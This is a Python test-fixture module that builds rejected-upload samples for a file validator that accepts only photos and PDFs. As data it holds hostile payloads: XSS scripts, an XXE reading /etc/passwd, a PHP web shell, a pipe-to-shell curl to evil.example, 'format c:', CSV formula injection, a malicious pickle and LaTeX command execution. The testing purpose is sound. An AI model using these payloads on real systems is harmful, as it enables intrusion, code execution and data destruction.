"""Files of other kinds than a proof may have, and files that begin as one kind and go on as another."""

from collections.abc import Iterator
from io import BytesIO

from PIL import Image
from support.photos import a_letter, a_photograph

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
"""The harmless text that every scanner takes for a virus."""

TEXTS = {
    "nothing": b"",
    "a byte": b"\x00",
    "zeros": bytes(5000),
    "a letter": b"Dear officer, here is my proof.",
    "a page": b"<!doctype html><html><body><script>alert(1)</script></body></html>",
    "a page in capitals": b"<HTML><SCRIPT>alert(1)</SCRIPT></HTML>",
    "a page behind a byte order mark": b"\xef\xbb\xbf<html><script>alert(1)</script></html>",
    "a page in UTF-16": "\ufeff<html><script>alert(1)</script></html>".encode("utf-16-le"),
    "a drawing with a script": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>x</script></svg>',
    "a drawing with an entity": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    "a billion laughs": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>',
    "a style sheet": b"body { background: url(javascript:alert(1)) }",
    "a script": b"fetch('/graphql', {method: 'POST'})",
    "a shell script": b"#!/bin/sh\ncurl http://evil.example | sh\n",
    "a python script": b"#!/usr/bin/env python3\nimport os\nos.system('id')\n",
    "a page of a server": b"<?php system($_GET['c']); ?>",
    "another page of a server": b'<%@ Page Language="C#" %><% Response.Write("x"); %>',
    "a batch file": b"@echo off\r\nformat c:\r\n",
    "a shortcut": b"[InternetShortcut]\r\nURL=file:///c:/windows/system32/calc.exe\r\n",
    "a table with a formula": b"name,amount\n=cmd|' /C calc'!A0,1\n",
    "a mail": b"From: a@example.org\r\nTo: b@example.org\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "JSON": b'{"uploadId": "x"}',
    "a pickle": b"cposix\nsystem\n(S'id'\ntR.",
    "a form of a browser": b'--x\r\nContent-Disposition: form-data; name="f"; filename="a.jpg"\r\n\r\nx\r\n--x--\r\n',
    "the test of scanners": EICAR,
    "PostScript": b"%!PS-Adobe-3.0\n(file) (r) file\n",
    "PostScript in a box": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\nshowpage\n",
    "rich text": b"{\\rtf1\\ansi{\\object\\objemb\\objupdate}}",
    "LaTeX": b"\\documentclass{article}\\immediate\\write18{id}",
    "a picture as text": b"P3\n1 1\n255\n0 0 0\n",
    "X bitmap": b"#define x_width 8\n#define x_height 8\nstatic char x_bits[] = {0};\n",
}
SIGNATURES = {
    "a program for Windows": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff",
    "a program for Linux": b"\x7fELF\x02\x01\x01\x00",
    "a program for a Mac": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01",
    "a program of Java": b"\xca\xfe\xba\xbe\x00\x00\x00\x34",
    "a program for the web": b"\x00asm\x01\x00\x00\x00",
    "a program for Android": b"dex\n035\x00",
    "Flash": b"CWS\x0a\x00\x10\x00\x00",
    "an archive (zip)": b"PK\x03\x04\x14\x00\x00\x00\x08\x00",
    "an empty archive": b"PK\x05\x06" + bytes(18),
    "an archive (rar)": b"Rar!\x1a\x07\x01\x00",
    "an archive (7z)": b"7z\xbc\xaf\x27\x1c\x00\x04",
    "an archive (gzip)": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
    "an archive (bzip2)": b"BZh91AY&SY",
    "an archive (xz)": b"\xfd7zXZ\x00\x00\x04",
    "an archive (zstd)": b"\x28\xb5\x2f\xfd\x04\x00",
    "an archive (cab)": b"MSCF\x00\x00\x00\x00",
    "an image of a disk": bytes(0x8001) + b"CD001\x01",
    "a document of Word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    "a link of Windows": b"L\x00\x00\x00\x01\x14\x02\x00",
    "a film": b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2",
    "a photograph that we cannot read": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00heicmif1",
    "another photograph that we cannot read": b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1",
    "a film (RIFF)": b"RIFF\x24\x00\x00\x00AVI LIST",
    "a sound (RIFF)": b"RIFF\x24\x00\x00\x00WAVEfmt ",
    "a cursor (RIFF)": b"RIFF\x24\x00\x00\x00ACONanih",
    "a film (Matroska)": b"\x1a\x45\xdf\xa3\x93\x42\x82\x88matroska",
    "a sound": b"ID3\x03\x00\x00\x00\x00\x00\x00",
    "a sound (Ogg)": b"OggS\x00\x02\x00\x00",
    "a font": b"\x00\x01\x00\x00\x00\x0c\x00\x80",
    "a font for the web": b"wOF2\x00\x01\x00\x00",
    "a database": b"SQLite format 3\x00\x10\x00",
    "a drawing of Photoshop": b"8BPS\x00\x01\x00\x00\x00\x00\x00\x00",
    "a drawing of Windows": b"\xd7\xcd\xc6\x9a\x00\x00",
    "a drawing of a scanner": b"\x97JB2\r\n\x1a\n",
    "JPEG 2000": b"\x00\x00\x00\x0cjP  \r\n\x87\n",
    "JPEG XL": b"\xff\x0a\xfa\x1f",
    "a moving picture (MNG)": b"\x8aMNG\r\n\x1a\n",
    "a form (FDF)": b"%FDF-1.2\n1 0 obj\n<</FDF<</F(evil.pdf)>>>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n",
}
FORMATS = ("BMP", "DIB", "GIF", "ICO", "JPEG2000", "MSP", "PCX", "PPM", "SGI", "SPIDER", "TGA", "TIFF", "XBM")
BEFORE = {
    "a byte": b"\x00",
    "a line": b"\n",
    "a byte order mark": b"\xef\xbb\xbf",
    "a moving picture": b"GIF89a\x01\x00\x01\x00",
    "a page": b"<html><script>alert(1)</script>",
    "an archive": b"PK\x03\x04\x14\x00\x00\x00",
    "a program": b"MZ\x90\x00",
    "a shell script": b"#!/bin/sh\nexit\n",
    "two letters of another": b"BM",
}


GOOD = {"JPEG": a_photograph(), "PNG": a_photograph(form="PNG"), "WEBP": a_photograph(form="WEBP"), "PDF": a_letter()}
"""A file of each kind that is taken."""


def files() -> Iterator[tuple[str, bytes]]:
    """Each by its name."""
    yield from TEXTS.items()
    for name, begins in SIGNATURES.items():
        yield name, begins + bytes(600)
    for form in FORMATS:
        yield f"a picture of another kind ({form})", _picture(form)
    for name, before in BEFORE.items():
        for kind, content in GOOD.items():
            yield f"{name}, then a {kind}", before + content


def _picture(form: str) -> bytes:
    content = BytesIO()
    mode = {"XBM": "1", "MSP": "1", "SPIDER": "F"}.get(form, "RGB")
    Image.new(mode, (64, 64)).save(content, form)
    return content.getvalue()
